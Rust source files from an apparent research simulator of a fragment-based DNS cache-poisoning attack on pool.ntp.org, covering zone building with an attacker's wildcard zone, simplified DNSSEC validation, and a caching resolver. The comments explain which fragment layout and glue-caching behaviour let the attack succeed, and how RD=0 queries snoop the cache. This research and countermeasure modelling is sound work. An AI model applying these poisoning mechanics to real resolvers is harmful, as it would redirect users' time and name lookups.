    pub fn add(&mut self, record: Record) -> &mut Self {
        assert!(
            record.name.is_subdomain_of(&self.origin),
            "record {} outside zone {}",
            record.name,
            self.origin
        );
        self.records.entry((record.name.clone(), record.rtype())).or_default().push(record);
        self
    }

    /// Signs the zone with `key` (DNSSEC-lite).
    pub fn with_key(mut self, key: ZoneKey) -> Self {
        self.key = Some(key);
        self
    }

    /// Sets the answer policy.
    pub fn with_policy(mut self, policy: AnswerPolicy) -> Self {
        self.policy = policy;
        self
    }

    /// Static records for `(name, rtype)`.
    pub fn lookup(&self, name: &Name, rtype: RecordType) -> &[Record] {
        self.records.get(&(name.clone(), rtype)).map(Vec::as_slice).unwrap_or(&[])
    }

    /// True if any record exists at `name`.
    pub fn name_exists(&self, name: &Name) -> bool {
        self.records.keys().any(|(n, _)| n == name)
            || match &self.policy {
                AnswerPolicy::Rotate { names, .. } => names.contains(name),
                AnswerPolicy::Wildcard { .. } => name.is_subdomain_of(&self.origin),
                AnswerPolicy::Static => false,
            }
    }

    /// The zone's NS records at the apex.
    pub fn ns_records(&self) -> &[Record] {
        self.lookup(&self.origin.clone(), RecordType::Ns)
    }

    /// Glue A records for every apex NS target.
    pub fn glue_records(&self) -> Vec<Record> {
        self.ns_records()
            .iter()
            .filter_map(Record::as_ns)
            .flat_map(|target| self.lookup(target, RecordType::A).to_vec())
            .collect()
    }
}

/// Builds the `pool.ntp.org` zone: a rotating A answer over `pool_addrs`
/// plus `ns_count` nameservers (`ns1..nsN.pool.ntp.org`) with glue starting
/// at `ns_glue_base` (the NS hosts get consecutive addresses).
///
/// With the default 23 nameservers the authoritative response to an A query
/// is ≈900 bytes: fragmenting at MTU 548 puts **all glue records into the
/// second fragment** — the layout the fragment-replacement attack needs.
pub fn pool_zone(pool_addrs: Vec<Ipv4Addr>, ns_count: usize, ns_glue_base: Ipv4Addr) -> Zone {
    let origin: Name = "pool.ntp.org".parse().expect("static name");
    let mut zone = Zone::new(origin.clone());
    let base = u32::from(ns_glue_base);
    for i in 0..ns_count {
        let ns_name = origin.child(&format!("ns{}", i + 1)).expect("valid label");
        zone.add(Record::ns(origin.clone(), 3600, ns_name.clone()));
        zone.add(Record::a(ns_name, 3600, Ipv4Addr::from(base + i as u32)));
    }
    let mut rotate_names = vec![origin.clone()];
    for i in 0..4 {
        rotate_names.push(origin.child(&i.to_string()).expect("valid label"));
    }
    zone.with_policy(AnswerPolicy::Rotate {
        names: rotate_names,
        addrs: pool_addrs,
        per_response: POOL_ADDRS_PER_RESPONSE,
        ttl: POOL_A_TTL,
    })
}

/// Builds the attacker's malicious `pool.ntp.org` zone serving
/// `per_response` of `addrs` with a high TTL for any name in the zone.
pub fn malicious_pool_zone(addrs: Vec<Ipv4Addr>, per_response: usize, ttl: u32) -> Zone {
    let origin: Name = "pool.ntp.org".parse().expect("static name");
    Zone::new(origin).with_policy(AnswerPolicy::Wildcard { addrs, per_response, ttl })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pool_zone_has_ns_and_glue() {
        let servers: Vec<Ipv4Addr> = (0..8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 23, Ipv4Addr::new(198, 51, 100, 1));
        assert_eq!(zone.ns_records().len(), 23);
        assert_eq!(zone.glue_records().len(), 23);
        assert_eq!(zone.glue_records()[0].as_a(), Some(Ipv4Addr::new(198, 51, 100, 1)));
        assert!(zone.name_exists(&"pool.ntp.org".parse().unwrap()));
        assert!(zone.name_exists(&"2.pool.ntp.org".parse().unwrap()));
    }

    #[test]
    fn wildcard_zone_matches_everything_under_origin() {
        let zone = malicious_pool_zone(vec![Ipv4Addr::new(6, 6, 6, 6)], 89, 86_400 * 2);
        assert!(zone.name_exists(&"pool.ntp.org".parse().unwrap()));
        assert!(zone.name_exists(&"3.pool.ntp.org".parse().unwrap()));
        assert!(!zone.name_exists(&"example.com".parse().unwrap()));
    }

    #[test]
    #[should_panic(expected = "outside zone")]
    fn out_of_zone_record_panics() {
        let mut zone = Zone::new("pool.ntp.org".parse().unwrap());
        zone.add(Record::a("evil.example".parse().unwrap(), 60, Ipv4Addr::new(1, 1, 1, 1)));
    }
}
