//! DNSSEC-lite: a structurally faithful, cryptographically simplified
//! signing scheme.
//!
//! The paper's countermeasure analysis (§IX) only needs *whether* a zone is
//! signed and *whether* a resolver validates — not real RSA/ECDSA. Zones
//! hold a secret [`ZoneKey`]; RRsets are signed with a keyed hash carried in
//! an `RRSIG`-like record; validating resolvers check signatures against a
//! [`TrustAnchors`] table (standing in for the full chain of trust). An
//! attacker without the zone key cannot produce a valid signature for forged
//! records (modulo the 64-bit tag, which the simulator treats as
//! unforgeable), so validation defeats the poisoning exactly as real DNSSEC
//! would.

use netsim::fasthash::FastMap;

use crate::name::Name;
use crate::record::{RData, Record, RecordType};

/// A zone's signing key (secret).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct ZoneKey(pub u64);

impl ZoneKey {
    /// Key tag derived from the key (published in DNSKEY records).
    pub fn tag(self) -> u16 {
        (self.0 ^ (self.0 >> 16) ^ (self.0 >> 32) ^ (self.0 >> 48)) as u16
    }
}

/// Computes the DNSSEC-lite signature over an RRset.
///
/// The tag is a keyed FNV-1a hash of the canonical RRset: owner name, type
/// and the sorted RDATA byte images. Any change to the set — adding,
/// removing or altering a record — changes the signature.
pub fn sign_rrset(key: ZoneKey, owner: &Name, rtype: RecordType, records: &[Record]) -> u64 {
    let mut images: Vec<Vec<u8>> = records
        .iter()
        .filter(|r| r.rtype() == rtype && r.name == *owner)
        .map(rdata_image)
        .collect();
    images.sort();
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325 ^ key.0;
    let mut absorb = |bytes: &[u8]| {
        for &b in bytes {
            hash ^= u64::from(b);
            hash = hash.wrapping_mul(0x1000_0000_01b3);
        }
    };
    absorb(owner.to_string().as_bytes());
    absorb(&rtype.code().to_be_bytes());
    for image in &images {
        absorb(image);
    }
    // A second mixing round so the key cannot be peeled off linearly.
    hash ^= hash >> 33;
    hash = hash.wrapping_mul(0xff51_afd7_ed55_8ccd ^ key.0);
    hash ^= hash >> 29;
    hash
}

/// Builds the RRSIG record covering `(owner, rtype)` in `records`.
pub fn make_rrsig(
    key: ZoneKey,
    zone: &Name,
    owner: &Name,
    rtype: RecordType,
    ttl: u32,
    records: &[Record],
) -> Record {
    Record::new(
        owner.clone(),
        ttl,
        RData::Rrsig {
            type_covered: rtype,
            signer: zone.clone(),
            signature: sign_rrset(key, owner, rtype, records),
        },
    )
}

fn rdata_image(record: &Record) -> Vec<u8> {
    match &record.data {
        RData::A(addr) => addr.octets().to_vec(),
        RData::Ns(n) | RData::Cname(n) => n.to_string().into_bytes(),
        RData::Txt(s) => s.clone().into_bytes(),
        RData::Soa { mname, serial, minimum } => {
            let mut v = mname.to_string().into_bytes();
            v.extend_from_slice(&serial.to_be_bytes());
            v.extend_from_slice(&minimum.to_be_bytes());
            v
        }
        RData::Opt { udp_payload_size } => udp_payload_size.to_be_bytes().to_vec(),
        RData::Rrsig { signature, .. } => signature.to_be_bytes().to_vec(),
        RData::Dnskey { key_tag } => key_tag.to_be_bytes().to_vec(),
        RData::Unknown { data, .. } => data.to_vec(),
    }
}

/// The validating resolver's view of which zones are signed, and with what
/// key (stands in for the DS chain from the root).
#[derive(Debug, Clone, Default)]
pub struct TrustAnchors {
    anchors: FastMap<Name, ZoneKey>,
}

impl TrustAnchors {
    /// An empty anchor set (validation vacuously passes for all zones).
    pub fn new() -> Self {
        TrustAnchors::default()
    }

    /// Registers `zone` as signed with `key`.
    pub fn add(&mut self, zone: Name, key: ZoneKey) -> &mut Self {
        self.anchors.insert(zone, key);
        self
    }

    /// The key for the closest enclosing signed zone of `name`, if any.
    pub fn key_for(&self, name: &Name) -> Option<(Name, ZoneKey)> {
        name.self_and_ancestors()
            .find_map(|zone| self.anchors.get(&zone).map(|k| (zone.clone(), *k)))
    }

    /// Validates the RRset `(owner, rtype)` inside `records` against the
    /// accompanying RRSIG records.
    ///
    /// Returns `true` if the covering zone is unsigned (nothing to check) or
    /// a valid signature is present; `false` if the zone is signed but the
    /// signature is missing or wrong — the `sigfail` case of Table V.
    pub fn validate(&self, owner: &Name, rtype: RecordType, records: &[Record]) -> bool {
        let Some((_zone, key)) = self.key_for(owner) else {
            return true; // unsigned zone: accept (insecure but valid)
        };
        let expected = sign_rrset(key, owner, rtype, records);
        records.iter().any(|r| {
            matches!(
                &r.data,
                RData::Rrsig { type_covered, signature, .. }
                    if *type_covered == rtype && r.name == *owner && *signature == expected
            )
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn owner() -> Name {
        "time.cloudflare.com".parse().unwrap()
    }

    fn rrset() -> Vec<Record> {
        vec![
            Record::a(owner(), 300, Ipv4Addr::new(162, 159, 200, 1)),
            Record::a(owner(), 300, Ipv4Addr::new(162, 159, 200, 123)),
        ]
    }

    #[test]
    fn signature_is_deterministic_and_order_independent() {
        let key = ZoneKey(0xABCD);
        let mut records = rrset();
        let sig1 = sign_rrset(key, &owner(), RecordType::A, &records);
        records.reverse();
        let sig2 = sign_rrset(key, &owner(), RecordType::A, &records);
        assert_eq!(sig1, sig2);
    }

    #[test]
    fn tampered_rrset_fails_validation() {
        let key = ZoneKey(0x1111);
        let zone: Name = "cloudflare.com".parse().unwrap();
        let mut records = rrset();
        records.push(make_rrsig(key, &zone, &owner(), RecordType::A, 300, &records));
        let mut anchors = TrustAnchors::new();
        anchors.add(zone, key);
        assert!(anchors.validate(&owner(), RecordType::A, &records));
        // Attacker swaps an address without being able to re-sign.
        if let RData::A(addr) = &mut records[0].data {
            *addr = Ipv4Addr::new(6, 6, 6, 6);
        }
        assert!(!anchors.validate(&owner(), RecordType::A, &records));
    }

    #[test]
    fn unsigned_zone_passes_vacuously() {
        let anchors = TrustAnchors::new();
        assert!(anchors.validate(&owner(), RecordType::A, &rrset()));
    }

    #[test]
    fn signed_zone_without_sig_fails() {
        let key = ZoneKey(0x2222);
        let mut anchors = TrustAnchors::new();
        anchors.add("cloudflare.com".parse().unwrap(), key);
        assert!(!anchors.validate(&owner(), RecordType::A, &rrset()));
    }

    #[test]
    fn wrong_key_fails() {
        let good = ZoneKey(1);
        let bad = ZoneKey(2);
        let zone: Name = "cloudflare.com".parse().unwrap();
        let mut records = rrset();
        records.push(make_rrsig(bad, &zone, &owner(), RecordType::A, 300, &records));
        let mut anchors = TrustAnchors::new();
        anchors.add(zone, good);
        assert!(!anchors.validate(&owner(), RecordType::A, &records));
    }

    #[test]
    fn anchor_lookup_walks_ancestors() {
        let mut anchors = TrustAnchors::new();
        anchors.add("com".parse().unwrap(), ZoneKey(5));
        let (zone, key) = anchors.key_for(&owner()).unwrap();
        assert_eq!(zone.to_string(), "com");
        assert_eq!(key, ZoneKey(5));
        assert!(anchors.key_for(&"pool.ntp.org".parse().unwrap()).is_none());
    }
}
