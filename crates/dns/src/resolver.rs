//! The caching recursive resolver — the victim of the poisoning attack.
//!
//! Implements the behaviours the paper's attack chain depends on:
//!
//! * random source ports and TXIDs (challenge-response entropy the
//!   fragment attack bypasses — both live in the first fragment);
//! * caching of answer, authority **and glue** records subject to a
//!   bailiwick check (the poisoned glue is in-bailiwick, so it caches);
//! * following cached delegations, so a poisoned `nsX.pool.ntp.org` glue
//!   record redirects future `pool.ntp.org` resolutions to the attacker's
//!   nameserver;
//! * RD=0 cache-only answers (the snooping primitive of Table IV);
//! * optional DNSSEC-lite validation (the countermeasure of §IX).

use netsim::fasthash::{FastMap, FastSet};
use std::net::Ipv4Addr;

use netsim::prelude::*;
use rand::seq::IndexedRandom;
use rand::RngExt;

use crate::auth::DNS_PORT;
use crate::cache::DnsCache;
use crate::dnssec::TrustAnchors;
use crate::message::{Message, Rcode};
use crate::name::Name;
use crate::record::{Record, RecordType};

/// Configuration of a [`Resolver`].
#[derive(Debug, Clone)]
pub struct ResolverConfig {
    /// Answer RD=0 queries from cache only (RFC-compliant). Resolvers that
    /// ignore the RD bit are excluded by the scan's verification step.
    pub respects_rd: bool,
    /// Perform DNSSEC-lite validation against `anchors`.
    pub validating: bool,
    /// Trust anchors used when `validating`.
    pub anchors: TrustAnchors,
    /// Cap on cached TTLs (BIND default: 7 days).
    pub max_cache_ttl: u32,
    /// Timeout before retrying an upstream query.
    pub upstream_timeout: SimDuration,
    /// Upstream retransmissions before SERVFAIL.
    pub max_retries: u32,
    /// Randomise source ports (RFC 5452). When false, ports are sequential
    /// from 2048 — the pre-Kaminsky configuration for the ablation bench.
    pub randomize_ports: bool,
    /// Randomise TXIDs. When false, sequential from 1.
    pub randomize_txid: bool,
    /// Use cached NS + glue for subsequent resolutions (standard resolver
    /// behaviour; turning it off pins the resolver to its hints and defeats
    /// the glue-poisoning redirection).
    pub follow_cached_delegations: bool,
    /// Maximum delegation-chasing depth.
    pub max_depth: u32,
}

impl Default for ResolverConfig {
    fn default() -> Self {
        ResolverConfig {
            respects_rd: true,
            validating: false,
            anchors: TrustAnchors::new(),
            max_cache_ttl: 7 * 86_400,
            upstream_timeout: SimDuration::from_secs(2),
            max_retries: 2,
            randomize_ports: true,
            randomize_txid: true,
            follow_cached_delegations: true,
            max_depth: 4,
        }
    }
}

/// Counters exposed by a [`Resolver`].
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ResolverStats {
    /// Queries received from clients.
    pub client_queries: u64,
    /// Client queries answered from cache.
    pub cache_hits: u64,
    /// Queries sent upstream.
    pub upstream_queries: u64,
    /// Upstream timeouts.
    pub timeouts: u64,
    /// SERVFAIL responses returned.
    pub servfails: u64,
    /// RRsets rejected by DNSSEC-lite validation.
    pub validation_failures: u64,
    /// Records discarded by the bailiwick check.
    pub bailiwick_rejects: u64,
}

#[derive(Debug, Clone)]
struct ClientRef {
    addr: Ipv4Addr,
    port: u16,
    txid: u16,
    rd: bool,
}

#[derive(Debug)]
struct Pending {
    qname: Name,
    qtype: RecordType,
    clients: Vec<ClientRef>,
    zone: Name,
    server: Ipv4Addr,
    sport: u16,
    txid: u16,
    attempts: u32,
    depth: u32,
}

/// A caching recursive resolver host listening on UDP port 53.
#[derive(Debug)]
pub struct Resolver {
    config: ResolverConfig,
    cache: DnsCache,
    hints: Vec<(Name, Vec<Ipv4Addr>)>,
    pending: FastMap<u64, Pending>,
    next_id: u64,
    seq_port: u16,
    seq_txid: u16,
    /// Counters.
    pub stats: ResolverStats,
}

impl Resolver {
    /// Creates a resolver with root-hint style knowledge: `hints` maps a
    /// zone apex to the addresses of its authoritative servers.
    pub fn new(config: ResolverConfig, hints: Vec<(Name, Vec<Ipv4Addr>)>) -> Self {
        let cache = DnsCache::new(config.max_cache_ttl);
        Resolver {
            config,
            cache,
            hints,
            pending: FastMap::default(),
            next_id: 1,
            seq_port: 2048,
            seq_txid: 1,
            stats: ResolverStats::default(),
        }
    }

    /// Read access to the cache (tests and the snooping scanners).
    pub fn cache(&self) -> &DnsCache {
        &self.cache
    }

    /// Mutable access to the cache (scenario setup, e.g. pre-priming).
    pub fn cache_mut(&mut self) -> &mut DnsCache {
        &mut self.cache
    }

    /// The configuration.
    pub fn config(&self) -> &ResolverConfig {
        &self.config
    }

    fn alloc_port(&mut self, ctx: &mut Ctx<'_>) -> u16 {
        if self.config.randomize_ports {
            ctx.rng().random_range(1024..=u16::MAX)
        } else {
            self.seq_port = self.seq_port.wrapping_add(1).max(1024);
            self.seq_port
        }
    }

    fn alloc_txid(&mut self, ctx: &mut Ctx<'_>) -> u16 {
        if self.config.randomize_txid {
            ctx.rng().random()
        } else {
            self.seq_txid = self.seq_txid.wrapping_add(1);
            self.seq_txid
        }
    }

    /// Picks the nameserver to ask for `qname`: cached delegations first
    /// (longest match), then configured hints.
    fn find_nameserver(
        &self,
        now: SimTime,
        ctx: &mut Ctx<'_>,
        qname: &Name,
    ) -> Option<(Name, Ipv4Addr)> {
        for zone in qname.self_and_ancestors() {
            if self.config.follow_cached_delegations {
                if let Some(hit) = self.cache.lookup(now, &zone, RecordType::Ns) {
                    let addrs: Vec<Ipv4Addr> = hit
                        .records
                        .iter()
                        .filter_map(Record::as_ns)
                        .filter_map(|target| {
                            self.cache
                                .lookup(now, target, RecordType::A)
                                .and_then(|glue| glue.records.first().and_then(Record::as_a))
                        })
                        .collect();
                    if let Some(&addr) = addrs.choose(ctx.rng()) {
                        return Some((zone.clone(), addr));
                    }
                }
            }
            if let Some((_, addrs)) = self.hints.iter().find(|(z, _)| *z == zone) {
                if let Some(&addr) = addrs.choose(ctx.rng()) {
                    return Some((zone.clone(), addr));
                }
            }
        }
        None
    }

    fn send_upstream(&mut self, ctx: &mut Ctx<'_>, id: u64) {
        let Some(p) = self.pending.get_mut(&id) else { return };
        let q = Message::query(p.txid, p.qname.clone(), p.qtype, false);
        let Ok(wire) = q.encode() else { return };
        self.stats.upstream_queries += 1;
        let (server, sport) = (p.server, p.sport);
        ctx.send_udp(server, sport, DNS_PORT, wire);
        let attempts = p.attempts;
        ctx.set_timer(self.config.upstream_timeout, encode_timer(id, attempts));
    }

    fn reply_to_clients(&mut self, ctx: &mut Ctx<'_>, id: u64, answers: Vec<Record>, rcode: Rcode) {
        let Some(p) = self.pending.remove(&id) else { return };
        if rcode == Rcode::ServFail {
            self.stats.servfails += 1;
        }
        for client in p.clients {
            let mut resp = Message::query(client.txid, p.qname.clone(), p.qtype, client.rd);
            resp.header.qr = true;
            resp.header.ra = true;
            resp.header.rcode = rcode;
            resp.answers = answers.clone();
            if let Ok(wire) = resp.encode() {
                ctx.send_udp(client.addr, DNS_PORT, client.port, wire);
            }
        }
    }

    fn answer_from_cache_only(&mut self, ctx: &mut Ctx<'_>, d: &Datagram, query: &Message) {
        let Some(q) = query.question() else { return };
        let mut resp = Message::response_to(query);
        resp.header.ra = true;
        if let Some(hit) = self.cache.lookup(ctx.now(), &q.name, q.qtype) {
            self.stats.cache_hits += 1;
            resp.answers = hit.records;
        }
        if let Ok(wire) = resp.encode() {
            ctx.send_udp(d.src, DNS_PORT, d.src_port, wire);
        }
    }

    fn handle_client_query(&mut self, ctx: &mut Ctx<'_>, d: &Datagram, query: Message) {
        self.stats.client_queries += 1;
        let Some(q) = query.question().cloned() else { return };
        if !query.header.rd && self.config.respects_rd {
            self.answer_from_cache_only(ctx, d, &query);
            return;
        }
        if let Some(hit) = self.cache.lookup(ctx.now(), &q.name, q.qtype) {
            self.stats.cache_hits += 1;
            let mut resp = Message::response_to(&query);
            resp.header.ra = true;
            resp.answers = hit.records;
            if let Ok(wire) = resp.encode() {
                ctx.send_udp(d.src, DNS_PORT, d.src_port, wire);
            }
            return;
        }
        let client =
            ClientRef { addr: d.src, port: d.src_port, txid: query.header.id, rd: query.header.rd };
        // Join an in-flight identical resolution, if any.
        if let Some((_, p)) =
            self.pending.iter_mut().find(|(_, p)| p.qname == q.name && p.qtype == q.qtype)
        {
            p.clients.push(client);
            return;
        }
        let Some((zone, server)) = self.find_nameserver(ctx.now(), ctx, &q.name) else {
            // No path to an authority: immediate SERVFAIL.
            let mut resp = Message::response_to(&query);
            resp.header.ra = true;
            resp.header.rcode = Rcode::ServFail;
            self.stats.servfails += 1;
            if let Ok(wire) = resp.encode() {
                ctx.send_udp(d.src, DNS_PORT, d.src_port, wire);
            }
            return;
        };
        let id = self.next_id;
        self.next_id += 1;
        let sport = self.alloc_port(ctx);
        let txid = self.alloc_txid(ctx);
        self.pending.insert(
            id,
            Pending {
                qname: q.name,
                qtype: q.qtype,
                clients: vec![client],
                zone,
                server,
                sport,
                txid,
                attempts: 0,
                depth: 0,
            },
        );
        self.send_upstream(ctx, id);
    }

    fn handle_upstream_response(&mut self, ctx: &mut Ctx<'_>, d: &Datagram, resp: Message) {
        // Match pending by (source address, destination port, TXID) — the
        // challenge-response triple of RFC 5452.
        let Some((&id, _)) = self
            .pending
            .iter()
            .find(|(_, p)| p.server == d.src && p.sport == d.dst_port && p.txid == resp.header.id)
        else {
            return; // unsolicited (a blind-spoofing miss)
        };
        let now = ctx.now();
        let (zone, qname, qtype, depth) = {
            let p = &self.pending[&id];
            (p.zone.clone(), p.qname.clone(), p.qtype, p.depth)
        };
        // Bailiwick: discard records outside the zone we queried.
        let mut in_bailiwick = |records: &[Record]| -> Vec<Record> {
            let (keep, reject): (Vec<_>, Vec<_>) =
                records.iter().cloned().partition(|r| r.name.is_subdomain_of(&zone));
            self.stats.bailiwick_rejects += reject.len() as u64;
            keep
        };
        let answers = in_bailiwick(&resp.answers);
        let authorities = in_bailiwick(&resp.authorities);
        let additionals = in_bailiwick(&resp.additionals);

        // Group records into RRsets for validation and caching.
        let mut rrsets: FastMap<(Name, RecordType), Vec<Record>> = FastMap::default();
        for r in answers.iter().chain(&authorities).chain(&additionals) {
            if r.rtype() == RecordType::Opt {
                continue;
            }
            rrsets.entry((r.name.clone(), r.rtype())).or_default().push(r.clone());
        }
        if self.config.validating {
            // Validate answer-section RRsets under signed zones. Glue and
            // authority data are not validated — matching real DNSSEC,
            // where glue is unsigned; this is precisely why the glue
            // poisoning lands even on validating resolvers, while the
            // *final* forged answer for a signed name still fails here.
            let answer_keys: FastSet<(Name, RecordType)> =
                answers.iter().map(|r| (r.name.clone(), r.rtype())).collect();
            for ((name, rtype), set) in &rrsets {
                if *rtype == RecordType::Rrsig || !answer_keys.contains(&(name.clone(), *rtype)) {
                    continue;
                }
                let mut with_sigs = set.clone();
                if let Some(sigs) = rrsets.get(&(name.clone(), RecordType::Rrsig)) {
                    with_sigs.extend(sigs.iter().cloned());
                }
                if !self.config.anchors.validate(name, *rtype, &with_sigs) {
                    self.stats.validation_failures += 1;
                    self.reply_to_clients(ctx, id, Vec::new(), Rcode::ServFail);
                    return;
                }
            }
        }
        for ((name, rtype), set) in rrsets {
            self.cache.insert(now, name, rtype, set);
        }

        // Did we get an answer for the question?
        let matching: Vec<Record> = answers
            .iter()
            .filter(|r| r.name == qname && (r.rtype() == qtype || r.rtype() == RecordType::Rrsig))
            .cloned()
            .collect();
        if matching.iter().any(|r| r.rtype() == qtype) {
            self.reply_to_clients(ctx, id, matching, Rcode::NoError);
            return;
        }
        // Delegation? Follow NS records for a subzone of our current zone.
        let delegation: Option<(Name, Ipv4Addr)> = authorities
            .iter()
            .filter_map(|r| {
                let target = r.as_ns()?;
                if !qname.is_subdomain_of(&r.name) || r.name.label_count() <= zone.label_count() {
                    return None;
                }
                let addr = additionals
                    .iter()
                    .find(|g| g.name == *target && g.rtype() == RecordType::A)
                    .and_then(Record::as_a)
                    .or_else(|| {
                        self.cache
                            .lookup(now, target, RecordType::A)
                            .and_then(|h| h.records.first().and_then(Record::as_a))
                    })?;
                Some((r.name.clone(), addr))
            })
            .next();
        if let Some((subzone, addr)) = delegation {
            if depth < self.config.max_depth {
                let sport = self.alloc_port(ctx);
                let txid = self.alloc_txid(ctx);
                let p = self.pending.get_mut(&id).expect("pending exists");
                p.zone = subzone;
                p.server = addr;
                p.sport = sport;
                p.txid = txid;
                p.attempts = 0;
                p.depth += 1;
                self.send_upstream(ctx, id);
                return;
            }
        }
        let rcode =
            if resp.header.rcode == Rcode::NxDomain { Rcode::NxDomain } else { Rcode::NoError };
        self.reply_to_clients(ctx, id, matching, rcode);
    }
}

fn encode_timer(id: u64, attempts: u32) -> TimerToken {
    (id << 8) | u64::from(attempts & 0xFF)
}

fn decode_timer(token: TimerToken) -> (u64, u32) {
    (token >> 8, (token & 0xFF) as u32)
}

impl Host for Resolver {
    fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
        let Ok(msg) = Message::decode(&d.payload) else { return };
        if msg.header.qr {
            self.handle_upstream_response(ctx, d, msg);
        } else if d.dst_port == DNS_PORT {
            self.handle_client_query(ctx, d, msg);
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: TimerToken) {
        let (id, attempts) = decode_timer(token);
        let Some(p) = self.pending.get_mut(&id) else { return };
        if p.attempts != attempts {
            return; // stale timer from an earlier attempt
        }
        self.stats.timeouts += 1;
        p.attempts += 1;
        if p.attempts > self.config.max_retries {
            self.reply_to_clients(ctx, id, Vec::new(), Rcode::ServFail);
            return;
        }
        // Re-randomise the challenge and re-select the nameserver on retry
        // (a dead NS must not wedge the resolution).
        let qname = p.qname.clone();
        let sport = self.alloc_port(ctx);
        let txid = self.alloc_txid(ctx);
        let reselected = self.find_nameserver(ctx.now(), ctx, &qname);
        let p = self.pending.get_mut(&id).expect("pending exists");
        p.sport = sport;
        p.txid = txid;
        if let Some((zone, server)) = reselected {
            p.zone = zone;
            p.server = server;
        }
        self.send_upstream(ctx, id);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stub::lookup_once;
    use crate::zone::pool_zone;

    const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 53);
    const NS: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 1);
    const CLIENT: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 100);

    fn pool_name() -> Name {
        "pool.ntp.org".parse().unwrap()
    }

    fn build_sim(config: ResolverConfig) -> Simulator {
        let mut sim = Simulator::with_topology(
            11,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(10))),
        );
        let servers: Vec<Ipv4Addr> = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let zone = pool_zone(servers, 4, NS);
        let ns_list =
            crate::auth::spawn_zone_nameservers(&mut sim, &zone, OsProfile::nameserver(548));
        let resolver = Resolver::new(config, vec![(pool_name(), ns_list)]);
        sim.add_host(RESOLVER, OsProfile::linux(), Box::new(resolver)).unwrap();
        sim
    }

    #[test]
    fn recursive_resolution_and_caching() {
        let mut sim = build_sim(ResolverConfig::default());
        let addrs = lookup_once(&mut sim, CLIENT, RESOLVER, &pool_name());
        assert_eq!(addrs.len(), 4);
        let r: &Resolver = sim.host(RESOLVER).unwrap();
        assert_eq!(r.stats.client_queries, 1);
        assert_eq!(r.stats.cache_hits, 0);
        assert!(r.cache().contains(sim.now(), &pool_name(), RecordType::A));
        // NS + glue must be cached too (that is what gets poisoned later).
        assert!(r.cache().contains(sim.now(), &pool_name(), RecordType::Ns));
        assert!(r.cache().contains(sim.now(), &"ns1.pool.ntp.org".parse().unwrap(), RecordType::A));
    }

    #[test]
    fn second_lookup_hits_cache() {
        let mut sim = build_sim(ResolverConfig::default());
        let first = lookup_once(&mut sim, CLIENT, RESOLVER, &pool_name());
        let second = lookup_once(&mut sim, "10.0.0.101".parse().unwrap(), RESOLVER, &pool_name());
        assert_eq!(first, second, "cached answer must be identical");
        let r: &Resolver = sim.host(RESOLVER).unwrap();
        assert_eq!(r.stats.cache_hits, 1);
        assert_eq!(r.stats.upstream_queries, 1);
    }

    #[test]
    fn rd0_answers_from_cache_only() {
        let mut sim = build_sim(ResolverConfig::default());
        // Snoop before priming: no answer.
        let snooped = crate::stub::snoop_once(&mut sim, CLIENT, RESOLVER, &pool_name());
        assert!(snooped.is_none(), "uncached record must not be revealed");
        lookup_once(&mut sim, CLIENT, RESOLVER, &pool_name());
        let snooped = crate::stub::snoop_once(&mut sim, CLIENT, RESOLVER, &pool_name());
        let (addrs, ttl) = snooped.expect("cached record is revealed");
        assert_eq!(addrs.len(), 4);
        assert!(ttl <= 150);
        let r: &Resolver = sim.host(RESOLVER).unwrap();
        assert_eq!(r.stats.upstream_queries, 1, "RD=0 must never recurse");
    }

    #[test]
    fn servfail_when_no_hints() {
        let mut sim = Simulator::new(3);
        let resolver = Resolver::new(ResolverConfig::default(), vec![]);
        sim.add_host(RESOLVER, OsProfile::linux(), Box::new(resolver)).unwrap();
        let addrs = lookup_once(&mut sim, CLIENT, RESOLVER, &pool_name());
        assert!(addrs.is_empty());
        let r: &Resolver = sim.host(RESOLVER).unwrap();
        assert_eq!(r.stats.servfails, 1);
    }

    #[test]
    fn upstream_timeout_retries_then_servfails() {
        let mut sim = Simulator::new(4);
        // Hint points at a black hole.
        let resolver = Resolver::new(
            ResolverConfig::default(),
            vec![(pool_name(), vec!["203.0.113.250".parse().unwrap()])],
        );
        sim.add_host(RESOLVER, OsProfile::linux(), Box::new(resolver)).unwrap();
        let addrs = lookup_once(&mut sim, CLIENT, RESOLVER, &pool_name());
        assert!(addrs.is_empty());
        let r: &Resolver = sim.host(RESOLVER).unwrap();
        assert_eq!(r.stats.upstream_queries, 3, "initial + 2 retries");
        assert_eq!(r.stats.servfails, 1);
    }

    #[test]
    fn concurrent_identical_queries_are_aggregated() {
        let mut sim = build_sim(ResolverConfig::default());
        let a = crate::stub::OneShot::spawn(&mut sim, CLIENT, RESOLVER, pool_name());
        let b = crate::stub::OneShot::spawn(
            &mut sim,
            "10.0.0.101".parse().unwrap(),
            RESOLVER,
            pool_name(),
        );
        sim.run_for(SimDuration::from_secs(5));
        let ra = crate::stub::OneShot::result(&sim, a);
        let rb = crate::stub::OneShot::result(&sim, b);
        assert_eq!(ra.len(), 4);
        assert_eq!(ra, rb);
        let r: &Resolver = sim.host(RESOLVER).unwrap();
        assert_eq!(r.stats.upstream_queries, 1, "one upstream query for both clients");
    }
}
