//! The resolver's record cache: TTL-bounded RRsets keyed by (name, type).
//!
//! The cache is the poisoning target. It also exposes the observable the
//! paper's Table IV scan exploits: RD=0 queries answered purely from cache
//! reveal whether (and for how much longer) `pool.ntp.org` records are
//! cached.

use netsim::fasthash::FastMap;

use crate::name::Name;
use crate::record::{Record, RecordType};
use netsim::time::SimTime;

/// A cached RRset with its insertion time and effective TTL.
#[derive(Debug, Clone)]
struct CachedRrset {
    records: Vec<Record>,
    inserted: SimTime,
    ttl: u32,
}

/// A TTL-bounded DNS cache.
#[derive(Debug, Default)]
pub struct DnsCache {
